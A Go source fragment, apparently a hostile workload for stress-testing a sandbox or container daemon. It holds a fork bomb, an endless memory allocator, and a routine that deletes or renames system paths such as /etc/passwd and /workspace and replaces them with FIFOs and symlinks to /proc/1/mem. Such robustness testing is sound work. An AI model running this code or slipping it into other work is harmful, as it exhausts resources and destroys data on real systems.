package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"time"
)

// bomb starts itself again and again, until no more processes can be started.
func bomb() error {
	for {
		exec.Command(os.Args[0], "bomb").Start()
		time.Sleep(time.Millisecond)
	}
}

// useUpMemory uses memory without end.
func useUpMemory() error {
	for {
		b := make([]byte, 16<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		allocated = append(allocated, b)
	}
}

// allocated is the memory that useUpMemory uses.
var allocated [][]byte

// replaceFiles puts pipes and links at paths where the agent or the daemon could look for files, and moves all files
// that it can move.
func replaceFiles() {
	for _, path := range []string{"/etc/passwd", "/etc/group", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/dev/ptmx", "/dev/null", "/tmp", "/.hutch", "/workspace"} {
		os.Rename(path, path+".old")
		os.RemoveAll(path)
		if filepath.Base(path) < "n" {
			mkfifo(path)
		} else {
			os.Symlink("/proc/1/mem", path)
		}
	}
	for _, path := range []string{"/proc/1/root", "/.hutch/own", "/sys/fs/cgroup"} {
		os.RemoveAll(path)
		os.Symlink("/", path+".link")
	}
}
